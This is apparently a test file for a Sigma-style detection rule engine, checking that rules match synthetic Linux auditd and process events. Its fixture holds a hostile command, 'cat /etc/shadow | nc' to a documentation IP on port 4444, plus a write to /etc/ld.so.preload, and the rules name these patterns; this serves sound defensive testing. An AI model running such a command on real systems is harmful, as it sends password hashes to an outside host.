import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { Event } from "@hosttrail/proto/event";
import { ColumnBlock, encodeColumns } from "../block/index.ts";
import { type DetectionRule, readRules } from "../sigma/index.ts";
import { missingFields, RuleSet } from "./index.ts";

const NO_BYTES = new Uint8Array(0);
const field = (key: string, value: string) => ({ key, value, valueBytes: NO_BYTES });
const record = (type: number, fields: [string, string][] = []) => ({
  type,
  typeName: "",
  layout: fields.map(([key]) => `${key}=`).join(" "),
  fields: fields.map(([key, value]) => field(key, value)),
});

const bash = {
  pid: 700,
  name: "bash",
  executable: "/usr/bin/bash",
  args: ["bash", "-c", "cat /etc/shadow | nc 203.0.113.9 4444"],
  argsCount: 3,
  workingDirectory: "/tmp",
  sessionId: 3,
  parent: { pid: 699, name: "java", executable: "/usr/bin/java", args: ["java", "-jar", "app.jar"] },
};
const user = { id: 33, name: "www-data", effectiveId: 33, effectiveName: "www-data", auditId: 1000, auditName: "eve" };

const executed = Event.fromPartial({
  event: {
    timeUnixNano: 1_767_222_000_000_000_000n,
    action: "executed",
    category: ["process"],
    type: ["start"],
    outcome: "success",
    kind: "event",
  },
  process: bash,
  user,
  files: [
    { path: "/usr/bin/bash", name: "/usr/bin/bash", nametype: "NORMAL", item: 0, hasAttributes: true, mode: 0o100755 },
    { path: "/lib64/ld.so", name: "/lib64/ld.so", nametype: "NORMAL", item: 1, hasAttributes: true },
  ],
  audit: {
    serial: 1,
    keys: ["exec", "susp_activity"],
    syscall: {
      name: "execve",
      number: 59,
      arch: 0xc000003e,
      archName: "x86_64",
      success: "yes",
      items: 2,
      arguments: [0x26n, 0xffff_ffff_0000_0001n, 0n, 8n],
    },
    records: [record(1300), record(1309), record(1307), record(1302), record(1302), record(1327)],
  },
});
const created = Event.fromPartial({
  event: { action: "opened-file", category: ["file"], type: ["creation"], outcome: "success", kind: "event" },
  process: { ...bash, args: ["bash"] },
  user,
  files: [
    { path: "/etc/ld.so.preload", name: "ld.so.preload", nametype: "CREATE", item: 1, hasAttributes: true },
    { path: "/etc/", name: "/etc/", nametype: "PARENT", item: 0, hasAttributes: true },
  ],
  audit: {
    serial: 2,
    syscall: { name: "openat", success: "yes", arguments: [0xffff_ff9cn, 0n, 0x241n, 0n] },
    records: [record(1300), record(1307), record(1302), record(1302), record(1327)],
  },
});
const connected = Event.fromPartial({
  event: {
    action: "connected-to",
    category: ["network"],
    type: ["connection", "start"],
    outcome: "success",
    kind: "event",
  },
  process: bash,
  destination: { ip: "203.0.113.9", port: 4444, address: "203.0.113.9", family: "inet" },
  audit: {
    serial: 3,
    syscall: { name: "connect", success: "yes", arguments: [3n, 1n, 2n, 0n] },
    records: [record(1300), record(1306)],
  },
});
const failed = Event.fromPartial({ ...executed, event: { ...executed.event, outcome: "failure" } });
const service = Event.fromPartial({
  event: { action: "stopped-service", outcome: "success", kind: "event" },
  process: { pid: 1 },
  audit: {
    serial: 5,
    records: [
      record(1131, [
        ["pid", "1"],
        ["uid", "0"],
        ["msg", "'unit=auditd comm=\"systemd\" cmd=6C73202D6C res=success'"],
      ]),
    ],
  },
});

const events = [executed, created, connected, failed, service];
const block = new ColumnBlock(encodeColumns(events), { hostId: "0".repeat(32), epoch: 1n, firstSeq: 0n });

const PROCESS = "{ product: linux, category: process_creation }";
const AUDITD = "{ product: linux, service: auditd }";

function rule(logsource: string, detection: string): DetectionRule {
  const text = `title: t\nlogsource: ${logsource}\ndetection:\n${detection.replace(/^(?=.)/gm, "  ")}\n`;
  const { rules, rejected } = readRules([{ path: "x.yml", text }]);
  assert.deepEqual(rejected, []);
  return rules[0] as DetectionRule;
}

/** Numbers of the events that match, each with the number of its record where it is one. */
function shown({ event, record: at }: { event: number; record: number }): string {
  return at < 0 ? `${event}` : `${event}.${at - (block.columns.records.offsets[event] ?? 0)}`;
}

function matches(...rules: DetectionRule[]): string[] {
  return new RuleSet(rules).match(block).map(shown);
}

const selection = (logsource: string, items: string): string[] =>
  matches(rule(logsource, `s: { ${items} }\ncondition: s`));

const CASES: [string, string, string[]][] = [
  [PROCESS, "Image|endswith: /bash", ["0"]],
  [PROCESS, "Image|endswith: /BASH", ["0"]],
  [PROCESS, "Image|endswith|cased: /BASH", []],
  [PROCESS, "CommandLine|contains|all: [/etc/shadow, nc]", ["0"]],
  [PROCESS, "CommandLine|re: 'nc \\d+\\.'", ["0"]],
  [PROCESS, "CommandLine|re: 'NC'", []],
  [PROCESS, "CommandLine|re|i: 'NC \\d'", ["0"]],
  [PROCESS, "CommandLine: 'bash -c *shadow*4?44'", ["0"]],
  [PROCESS, "ParentImage|endswith: /java, ParentCommandLine|contains: app.jar", ["0"]],
  [PROCESS, "User: WWW-data, CurrentDirectory: /tmp, LogonId: 33", ["0"]],
  [PROCESS, "process.parent.name: java", ["0"]],
  [PROCESS, "ProcessId|gt: 600, ProcessId|lte: 700", ["0"]],
  [PROCESS, "OriginalFileName: null", ["0"]],
  [PROCESS, "OriginalFileName: x", []],
  [PROCESS, "process.tty: null", ["0"]],
  [PROCESS, "Image|fieldref|endswith: process.name", ["0"]],
  [PROCESS, "Image|fieldref: ParentImage", []],
  [PROCESS, "UtcTime|hour: 23, UtcTime|year: 2025, UtcTime|week: 1", ["0"]],
  ["{ product: linux, category: file_event }", "TargetFilename: /etc/ld.so.preload", ["1"]],
  ["{ product: linux, category: file_event }", "TargetFilename: /etc/", []],
  [
    "{ product: linux, category: network_connection }",
    "DestinationIp|cidr: 203.0.113.0/24, DestinationPort: 4444, Initiated: true",
    ["2"],
  ],
  ["{ product: linux, category: network_connection }", "DestinationIp|cidr: 203.0.112.0/24", []],
  ["{ product: linux, category: network_connection }", "DestinationIsIpv6: 'false'", ["2"]],
  // The fields of one record, and never those of two.
  [AUDITD, "type: EXECVE, a0: bash, a1: -c", ["0.1", "3.1"]],
  [AUDITD, "type: execve, a2|contains: shadow", ["0.1", "3.1"]],
  [AUDITD, "type: SYSCALL, a0: 26", ["0.0", "3.0"]],
  [AUDITD, "type: SYSCALL, a1: ffffffff00000001", ["0.0", "3.0"]],
  [AUDITD, "type: EXECVE, a0: 26", []],
  [AUDITD, "type: SYSCALL, a0: bash", []],
  [AUDITD, "type: SYSCALL, name: /etc/ld.so.preload", []],
  [AUDITD, "SYSCALL: openat, name: /etc/ld.so.preload", ["1"]],
  [AUDITD, "SYSCALL: execve, a0: bash", ["0", "3"]],
  [AUDITD, "SYSCALL: execve, a0: 26", ["0.0", "3.0"]],
  [AUDITD, "SYSCALL: openat, a0: bash", []],
  [AUDITD, "type: PATH, name: ld.so.preload, nametype: CREATE", ["1.3"]],
  [AUDITD, "type: PATH, name: /etc/ld.so.preload", ["1.3"]],
  [AUDITD, "type: PATH, nametype: PARENT", ["1.2"]],
  [AUDITD, "type: PATH, mode: '0100755'", ["0.3", "3.3"]],
  [AUDITD, "euid: 33, SYSCALL: [execve, execveat]", ["0.0", "3.0"]],
  [AUDITD, "AUID: eve, comm: bash, exe|endswith: bash, success: yes", ["0.0", "1.0", "3.0"]],
  [AUDITD, "key: susp_activity", ["0.0", "3.0"]],
  [AUDITD, "type: SOCKADDR, laddr: 203.0.113.9, lport: 4444", ["2.1"]],
  [AUDITD, "SADDR|contains: 'laddr=203.0.113.9 lport=4444'", ["2.1"]],
  [AUDITD, "type: SERVICE_STOP, unit: auditd", ["4.0"]],
  [AUDITD, "type: SERVICE_STOP, cmd: ls -l, res: success", ["4.0"]],
  [AUDITD, "type: CWD, cwd: /tmp", ["0.2", "1.1", "3.2"]],
  [AUDITD, "exit: 0, SYSCALL: connect", ["2.0"]],
  [AUDITD, "destination.port: 4444, type: SYSCALL", ["2.0"]],
];

describe("a rule set", () => {
  for (const [logsource, items, expected] of CASES) {
    it(`${logsource}: ${items}`, () => assert.deepEqual(selection(logsource, items), expected));
  }

  it("gives the same with all rules together as with each alone", () => {
    const rules = CASES.map(([logsource, items]) => rule(logsource, `s: { ${items} }\ncondition: s`));
    const together = new RuleSet(rules).match(block);
    for (const [at, each] of rules.entries()) {
      const own = together.filter(({ rule: other }) => other === each).map(shown);
      assert.deepEqual(own, CASES[at]?.[2]);
    }
  });

  it("asks what stands under a not", () => {
    const not = (items: string): string[] =>
      matches(rule(PROCESS, `s: { Image|endswith: bash }\nf: { ${items} }\ncondition: s and not f`));
    assert.deepEqual(not("CommandLine|contains: shadow"), []);
    assert.deepEqual(not("CommandLine|contains: passwd"), ["0"]);
    assert.deepEqual(matches(rule(PROCESS, "f: { CommandLine|contains: passwd }\ncondition: not f")), ["0"]);
    assert.deepEqual(matches(rule(PROCESS, "f: { CommandLine|contains: shadow }\ncondition: not (not f)")), ["0"]);
  });

  it("looks for keywords in all texts of an event", () => {
    const keywords = (words: string, logsource = "{ product: linux }"): string[] =>
      matches(rule(logsource, `k: ${words}\ncondition: k`));
    assert.deepEqual(keywords("['shadow * nc']"), ["0", "3"]);
    assert.deepEqual(keywords("{ '|all': [shadow, susp_activity] }"), ["0", "3"]);
    assert.deepEqual(keywords("[stopped, 'unit=auditd']"), []);
    assert.deepEqual(keywords("[auditd]"), ["4"]);
    assert.deepEqual(keywords("['nothing of this']"), []);
    assert.deepEqual(keywords("['etc/shadow']", PROCESS), ["0"]);
  });

  it("tells the texts of a field under the rule's own names", () => {
    const set = new RuleSet([
      rule(PROCESS, "s: { Image|endswith: bash }\ncondition: s"),
      rule(AUDITD, "s: { type: EXECVE, a0: bash }\ncondition: s"),
    ]);
    const [process, execve] = set.match(block);
    assert.ok(process !== undefined && execve !== undefined);
    assert.deepEqual(set.textsOf(block, process, "ParentImage"), ["/usr/bin/java"]);
    assert.deepEqual(set.textsOf(block, execve, "a1"), ["-c"]);
    assert.deepEqual(set.textsOf(block, execve, "exe"), ["/usr/bin/bash"]);
  });

  it("says which rules have no events, and which are beyond what can be asked", () => {
    const windows = rule("{ product: windows, category: process_creation }", "s: { Image: x }\ncondition: s");
    const sshd = rule("{ product: linux, service: sshd }", "s: [x]\ncondition: s");
    const lookahead = rule(PROCESS, "s:\n  CommandLine|re: 'a(?=b)'\ncondition: s");
    const huge = rule(PROCESS, "s:\n  CommandLine|re: '(.{1000}){1000}'\ncondition: s");
    const { inert, notCompiled, rules } = new RuleSet([windows, sshd, lookahead, huge]);
    assert.equal(rules.length, 0);
    assert.deepEqual(
      inert.map(({ why }) => why.split(" ").slice(0, 3).join(" ")),
      ["events of product", "service sshd is"],
    );
    assert.match(notCompiled[0]?.message ?? "", /no look-ahead/);
    assert.equal(notCompiled[0]?.line, 5);
    assert.equal(notCompiled.length, 2);
  });

  it("names the fields that no event has", () => {
    const missing = missingFields(
      rule(
        "{ product: linux, category: network_connection }",
        "s: { DestinationHostname: x, DestinatoinIp: y, DestinationIp: z }\ncondition: s",
      ),
    );
    assert.deepEqual(
      missing.map(({ field: name }) => name),
      ["DestinationHostname", "DestinatoinIp"],
    );
    assert.match(missing[1]?.why ?? "", /is it "DestinationIp"/);
  });
});
